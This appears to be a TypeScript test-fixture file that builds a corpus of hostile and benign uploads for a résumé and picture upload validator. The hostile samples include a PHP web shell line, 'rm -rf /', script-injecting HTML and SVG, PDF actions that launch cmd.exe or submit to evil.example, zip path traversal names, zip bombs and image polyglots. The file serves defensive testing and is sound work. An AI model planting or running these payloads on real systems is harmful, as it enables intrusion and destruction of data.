import { deflateRawSync } from 'node:zlib'
import { avif, bytes, changedZip, doc, join, jpeg, pdf, types, webp, word } from './file-makers.ts'
import { makePng, makeZip } from './files.ts'

/** A file for the résumé or the picture field; bad ones must be refused, good ones taken. */
export interface CorpusFile {
  what: string
  field: 'resume' | 'picture'
  name: string
  type: string
  content: Buffer<ArrayBuffer>
}

const resume = (what: string, name: string, content: Buffer<ArrayBuffer>): CorpusFile => ({
  what,
  field: 'resume',
  name,
  content,
  type:
    types[(name.split('.').at(-1) ?? '').toLowerCase() as keyof typeof types] ?? 'application/octet-stream',
})
const picture = (
  what: string,
  type: string,
  content: Buffer<ArrayBuffer>,
  name = 'picture.png',
): CorpusFile => ({
  what,
  field: 'picture',
  name,
  type,
  content,
})

/** Beginnings of files that are neither résumés nor pictures. */
const strangers: [string, Buffer<ArrayBuffer>][] = [
  ['a page', bytes('<!doctype html><script>alert(1)</script>')],
  ['an SVG', bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['an XML drawing', bytes('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['a script', bytes('#!/bin/sh\nrm -rf /\n')],
  ['a Windows program', join('MZ', Buffer.alloc(200))],
  ['a Linux program', join(Buffer.from('7f454c46', 'hex'), Buffer.alloc(200))],
  ['a Java class', Buffer.from('cafebabe00000034', 'hex')],
  ['a GIF', bytes('GIF89a\u0001\u0000\u0001\u0000')],
  ['a GIF that is script', bytes('GIF89a=1;alert(1)')],
  ['a TIFF', bytes('II*\u0000')],
  ['a BMP', join('BM', Buffer.alloc(60))],
  ['an icon', Buffer.from('00000100010010100000', 'hex')],
  ['an RTF', bytes('{\\rtf1{\\object\\objdata 0}}')],
  ['PostScript', bytes('%!PS-Adobe-3.0\n')],
  ['a plain text', bytes('My name is Asha.')],
  ['PHP', bytes('<?php system($_GET[0]); ?>')],
  ['a gzip', Buffer.from('1f8b0800000000000003', 'hex')],
  ['a RAR', bytes('Rar!\u001a\u0007\u0000')],
  ['a 7-Zip', Buffer.from('377abcaf271c0004', 'hex')],
  ['a video', join(Buffer.from('00000018', 'hex'), 'ftypmp42', Buffer.alloc(200))],
  ['a bare archive', makeZip(['readme.txt'])],
  ['a Java archive', makeZip(['META-INF/MANIFEST.MF', 'Evil.class'])],
  ['a spreadsheet', makeZip(['[Content_Types].xml', 'xl/workbook.xml'])],
  ['an empty archive', makeZip([])],
  ['nothing', Buffer.alloc(0)],
  ['one byte', bytes('%')],
  ['zeros', Buffer.alloc(5_000)],
  ['deflated noise', deflateRawSync(bytes('x'.repeat(50_000)))],
]

const wrongNames = [
  'exe',
  'pdf.exe',
  'html',
  'svg',
  'docm',
  'dotm',
  'js',
  'pdf\u202efdp.exe',
  'pdf.',
  '',
  'zip',
  'rtf',
]
const actives = [
  '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  '/AA << /O << /S /JavaScript /JS 5 0 R >> >>',
  '/Names << /JavaScript 3 0 R >>',
  '/OpenAction << /S /Launch /F (cmd.exe) >>',
  '/Names << /EmbeddedFiles 3 0 R >>',
  '/Type /EmbeddedFile',
  '/Subtype /RichMedia',
  '/AcroForm << /XFA 4 0 R >>',
  '/A << /S /SubmitForm /F (https://evil.example) >>',
  '/A << /S /ImportData /F (x.fdf) >>',
  '/OpenAction << /S /J#61vaScript /J#53 (x) >>',
  '/OpenAction << /S /#4Aava#53cript >>',
]
const macroParts = [
  'word/vbaProject.bin',
  'vbaProject.bin',
  'WORD/VBAPROJECT.BIN',
  'customUI/x/vbaproject.bin',
]
const hostileParts = ['../../etc/passwd', '/etc/passwd', 'C:\\x.exe', 'word/..\\..\\x', '..', 'word/\u0000x']

const badArchives: [string, Buffer<ArrayBuffer>][] = [
  ...macroParts.map((part): [string, Buffer<ArrayBuffer>] => [`macros in ${part}`, makeZip([...word, part])]),
  ...hostileParts.map((part): [string, Buffer<ArrayBuffer>] => [
    `a part called ${part}`,
    makeZip([...word, part]),
  ]),
  ['a bomb of 2 GB parts', makeZip(word, { claimedSize: 0x7fffffff })],
  ['a bomb of 4 GB parts', makeZip(word, { claimedSize: 0xffffffff })],
  ['a bomb just over the limit', makeZip(word, { claimedSize: 70 * 1024 * 1024 })],
  ['2,001 parts', makeZip([...word, ...Array.from({ length: 2_001 }, (_, index) => `word/${index}`)])],
  ['an encrypted part', changedZip(word, (zip, at) => zip.writeUInt16LE(1, at + 8))],
  [
    'a directory that points past the end',
    changedZip(word, (zip, at) => zip.writeUInt32LE(0x7fffffff, at + 42)),
  ],
  ['a directory that points elsewhere', changedZip(word, (zip, at) => zip.writeUInt32LE(1, at + 42))],
  ['a part under another name', changedZip(word, (zip) => zip.write('evil', 30))],
  ['a count that lies', changedZip(word, (zip) => zip.writeUInt16LE(40, zip.length - 12))],
  ['a 64-bit archive', changedZip(word, (zip) => zip.writeUInt16LE(0xffff, zip.length - 12))],
  ['no content types', makeZip(['word/document.xml'])],
  ['no document', makeZip(['[Content_Types].xml'])],
  ['a cut end', makeZip(word).subarray(0, -10)],
  ['no beginning', makeZip(word).subarray(20)],
]

const badPictures: [string, string, Buffer<ArrayBuffer>][] = [
  ['a pixel flood', 'image/png', makePng(65_535, 65_535)],
  ['a wide flood', 'image/png', makePng(0x7fffffff, 1)],
  ['no width', 'image/png', makePng(0, 10)],
  ['no height', 'image/jpeg', jpeg(10, 0)],
  ['a JPEG flood', 'image/jpeg', jpeg(65_535, 65_535)],
  ['a WebP flood', 'image/webp', webp(16_000, 16_000)],
  ['an AVIF flood', 'image/avif', avif(60_000, 60_000)],
  ['a picture and an archive', 'image/png', join(makePng(), makeZip(['x.class']))],
  ['a JPEG and an archive', 'image/jpeg', jpeg(4, 4, makeZip(['x.class']))],
  ['a picture and a script', 'image/png', join(makePng(), '<script>alert(1)</script>')],
  ['a picture and PHP', 'image/jpeg', jpeg(4, 4, '<?php system(1); ?>')],
  ['a picture and a page', 'image/png', join(makePng(), '<html ><body>')],
  ['a picture and a far script', 'image/png', join(makePng(), Buffer.alloc(9_000), '<script >1</script>')],
  ['a picture and a frame', 'image/webp', join(webp(4, 4), '<iframe src=x>')],
  ['a cut PNG', 'image/png', makePng().subarray(0, 20)],
  ['a cut JPEG', 'image/jpeg', jpeg(4, 4).subarray(0, 14)],
  ['a cut WebP', 'image/webp', webp(4, 4).subarray(0, 26)],
  ['a cut AVIF', 'image/avif', avif(4, 4).subarray(0, 34)],
  ['a PDF', 'image/png', pdf()],
  ['more than 4 MB', 'image/png', join(makePng(), Buffer.alloc(4 * 1024 * 1024))],
]

const goodPictures: [string, Buffer<ArrayBuffer>][] = [
  ['image/png', makePng()],
  ['image/jpeg', jpeg(40, 30)],
  ['image/webp', webp(40, 30)],
  ['image/avif', avif(40, 30)],
]

export const badFiles: readonly CorpusFile[] = [
  ...Object.keys(types).flatMap((kind) =>
    strangers.map(([what, content]) => resume(`${what} called ${kind}`, `resume.${kind}`, content)),
  ),
  ...wrongNames.map((ending) =>
    resume(`a PDF called ${ending || 'nothing'}`, ending && `resume.${ending}`, pdf()),
  ),
  ...actives.map((inside) => resume(`a PDF with ${inside}`, 'resume.pdf', pdf(inside))),
  ...badArchives.map(([what, content]) => resume(what, 'resume.docx', content)),
  resume('macros of the old kind', 'resume.doc', doc('WordDocument', 'Macros', '_VBA_PROJECT')),
  resume('an encrypted document', 'resume.docx', doc('EncryptionInfo', 'EncryptedPackage')),
  resume('an old spreadsheet', 'resume.doc', doc('Workbook')),
  resume('an installer', 'resume.doc', doc('!_Tables')),
  resume('a PDF and an archive', 'resume.pdf', join(pdf(), makeZip(['x.class']))),
  resume('a PDF and a page', 'resume.pdf', join('%PDF-1.7\n<html><script>1</script>', pdf())),
  resume('a page and a PDF', 'resume.pdf', join('<html>', pdf())),
  resume('a picture and a PDF', 'resume.pdf', join(makePng(), pdf())),
  resume('a PDF called docx', 'resume.docx', pdf()),
  resume('a PDF called doc', 'resume.doc', pdf()),
  resume('a document called PDF', 'resume.pdf', makeZip(word)),
  resume('an old document called docx', 'resume.docx', doc('WordDocument')),
  ...strangers.map(([what, content]) => picture(`${what} as a picture`, 'image/png', content)),
  ...badPictures.map(([what, type, content]) => picture(what, type, content)),
  ...goodPictures.flatMap(([real, content]) =>
    [...goodPictures.map(([type]) => type), 'image/svg+xml', 'image/gif', 'text/html', '', 'application/pdf']
      .filter((type) => type !== real)
      .map((type) => picture(`${real} that calls itself ${type || 'nothing'}`, type, content)),
  ),
]

const goodNames = [
  'resume.pdf',
  'RESUME.PDF',
  'Résumé (2).pdf',
  'ଅନିଲ ଦାସ.pdf',
  "D'Souza.pdf",
  'a b  c.pdf',
  'my.resume.final.pdf',
  '../../resume.pdf',
  'C:\\Users\\Asha\\resume.pdf',
  '-rf.pdf',
  'con.pdf',
  '=1+1.pdf',
  '<b>.pdf',
  '%2e%2e%2fresume.pdf',
]

export const goodFiles: readonly CorpusFile[] = [
  ...goodNames.map((name) => resume(`a PDF called ${name}`, name, pdf())),
  ...['1.0', '1.3', '1.4', '1.5', '1.6', '2.0'].map((version) =>
    resume(`PDF ${version}`, 'resume.pdf', pdf('', version)),
  ),
  resume('a PDF that opens at a page', 'resume.pdf', pdf('/OpenAction [3 0 R /Fit]')),
  resume('a PDF with links', 'resume.pdf', pdf('/A << /S /URI /URI (https://mail.example) >>')),
  resume(
    'a PDF that speaks of JavaScript',
    'resume.pdf',
    pdf('/Title (JavaScript and HTML developer, /JSON)'),
  ),
  resume('a PDF of 3 MB', 'resume.pdf', join(pdf(), Buffer.alloc(3 * 1024 * 1024, 32))),
  resume('a document', 'resume.docx', makeZip(word)),
  resume(
    'a document with pictures',
    'resume.docx',
    makeZip([...word, 'word/media/image1.png', 'docProps/app.xml']),
  ),
  resume(
    'a document of many parts',
    'resume.docx',
    makeZip([...word, ...Array.from({ length: 300 }, (_, n) => `word/p${n}.xml`)]),
  ),
  resume('a document with large parts', 'resume.docx', makeZip(word, { claimedSize: 20 * 1024 * 1024 })),
  resume('a document with an Odia part', 'ଜୀବନୀ.docx', makeZip([...word, 'word/ଛବି.xml'])),
  resume('an old document', 'resume.doc', doc('WordDocument')),
  resume('an old document with tables', 'RESUME.DOC', doc('Root Entry', 'WordDocument', '1Table')),
  ...goodPictures.flatMap(([type, content]) => [
    picture(`a picture of ${type}`, type, content),
    picture(
      `a picture of ${type} with words about it`,
      type,
      join(content, '<x:xmpmeta xmlns:x="adobe:ns:meta/">'),
    ),
    picture(`a picture of ${type} under a strange name`, type, content, '../../<svg>.html'),
  ]),
  picture('40 million pixels', 'image/png', makePng(8_000, 5_000)),
  picture('two pixels', 'image/png', makePng(2, 1)),
  picture('one pixel', 'image/png', makePng(1, 1)),
  picture('a tall picture', 'image/jpeg', jpeg(600, 6_000)),
  picture('a picture of 3 MB', 'image/png', join(makePng(), Buffer.alloc(3 * 1024 * 1024))),
  picture('a wide WebP', 'image/webp', webp(3_000, 500)),
  picture('a large AVIF', 'image/avif', avif(4_000, 3_000)),
]
